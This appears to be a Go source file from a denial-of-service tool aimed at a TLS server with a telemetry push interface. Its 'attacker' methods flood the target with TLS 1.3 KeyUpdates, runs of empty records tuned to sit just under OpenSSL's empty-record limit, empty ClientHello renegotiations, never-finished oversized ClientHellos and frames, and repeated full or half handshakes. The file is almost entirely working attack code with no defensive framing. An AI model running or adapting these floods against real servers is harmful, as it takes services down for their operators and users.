package main

import (
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
)

const (
	// recordsAtOnce is how many records are made before they are sent. A KeyUpdate takes much longer to make than to
	// send, and a reader that keeps up with the making ends its turn.
	recordsAtOnce = 4 << 10
	updatesAtOnce = 16 << 10
	// emptyInRow is one less than what OpenSSL takes without data between them (MAX_EMPTY_RECORDS).
	emptyInRow = 31
	// swallowed is what a push announces that is beyond telemetry.max_bytes and within max_frame_bytes.
	swallowed = 90 << 20
)

// repeat sends what add makes until the target ends the connection or the attack is over.
func (a *attacker) repeat(connection net.Conn, version uint16, atOnce int, add func(r *records) error) error {
	r, err := handshaken(connection, version)
	if err != nil {
		return err
	}
	go drain(connection)
	for {
		for i := 0; i < atOnce; i++ {
			if err := add(r); err != nil {
				return err
			}
		}
		if err := r.flush(); err != nil {
			return err
		}
	}
}

func (a *attacker) keyUpdates(connection net.Conn, _ int) error {
	return a.repeat(connection, tls.VersionTLS13, updatesAtOnce, func(r *records) error { return r.update(false) })
}

func (a *attacker) keyUpdateRequests(connection net.Conn, _ int) error {
	return a.repeat(connection, tls.VersionTLS13, updatesAtOnce, func(r *records) error { return r.update(true) })
}

func (a *attacker) emptyRecords(connection net.Conn, _ int) error {
	return a.empty(connection, tls.VersionTLS13)
}

func (a *attacker) emptyRecords12(connection net.Conn, _ int) error {
	return a.empty(connection, tls.VersionTLS12)
}

// empty sends a byte of a frame that will not be whole behind so many records that OpenSSL would else refuse more.
func (a *attacker) empty(connection net.Conn, version uint16) error {
	next := splitter(swallowedPush())
	return a.repeat(connection, version, recordsAtOnce/(emptyInRow+1), func(r *records) error {
		for i := 0; i < emptyInRow; i++ {
			r.add(recordApplication, nil)
		}
		r.add(recordApplication, next(1))
		return nil
	})
}

// renegotiations sends an empty ClientHello; OpenSSL looks at its type only, and answers with an alert.
func (a *attacker) renegotiations(connection net.Conn, _ int) error {
	return a.repeat(connection, tls.VersionTLS12, recordsAtOnce, func(r *records) error {
		r.add(recordHandshake, []byte{1, 0, 0, 0})
		return nil
	})
}

func (a *attacker) swallowedRecords(connection net.Conn, _ int) error {
	next := splitter(swallowedPush())
	return a.repeat(connection, tls.VersionTLS13, recordsAtOnce, func(r *records) error {
		r.add(recordApplication, next(3))
		return nil
	})
}

func (a *attacker) requestRecords(connection net.Conn, _ int) error {
	request, err := produceRequest(128, 100)
	if err != nil {
		return err
	}
	next := splitter(request, request)
	return a.repeat(connection, tls.VersionTLS13, recordsAtOnce, func(r *records) error {
		r.add(recordApplication, next(1))
		return nil
	})
}

// swallowedPush is the beginning of a PushTelemetry request, then nothing but zeros.
func swallowedPush() ([]byte, []byte) {
	frame := pushRequest(1, randomID(), 0, 0, make([]byte, 1<<10))
	binary.BigEndian.PutUint32(frame, swallowed)
	return frame, make([]byte, 1<<10)
}

// splitter hands out first and then again and again what follows, in pieces of at most the asked size.
func splitter(first, again []byte) func(size int) []byte {
	rest := first
	return func(size int) []byte {
		if len(rest) == 0 {
			rest = again
		}
		part := rest[:min(size, len(rest))]
		rest = rest[len(part):]
		return part
	}
}

// helloRecords sends a ClientHello of the greatest length that OpenSSL waits for, and never all of it.
func (a *attacker) helloRecords(connection net.Conn, _ int) error {
	go drain(connection)
	next := splitter([]byte{1, 1, 0xff, 0xff, 3, 3}, make([]byte, 1<<10))
	for out := make([]byte, 0, 6*recordsAtOnce); ; out = out[:0] {
		for i := 0; i < recordsAtOnce; i++ {
			out = append(append(out, recordHandshake, 3, 1, 0, 1), next(1)...)
		}
		if _, err := connection.Write(out); err != nil {
			return err
		}
	}
}

func (a *attacker) handshakes(connection net.Conn, _ int) error {
	secured := tls.Client(connection, &tls.Config{InsecureSkipVerify: true})
	if err := secured.Handshake(); err != nil {
		return err
	}
	return io.EOF
}

// halfHandshakes ends the connection when the target's first bytes are there: it has signed by then.
func (a *attacker) halfHandshakes(connection net.Conn, _ int) error {
	stopped := &deaf{Conn: connection}
	_ = tls.Client(stopped, &tls.Config{InsecureSkipVerify: true}).Handshake()
	return io.EOF
}

// deaf hears one byte, which is then the end.
type deaf struct{ net.Conn }

func (d *deaf) Read(data []byte) (int, error) {
	if _, err := d.Conn.Read(data[:1]); err != nil {
		return 0, err
	}
	return 0, io.EOF
}
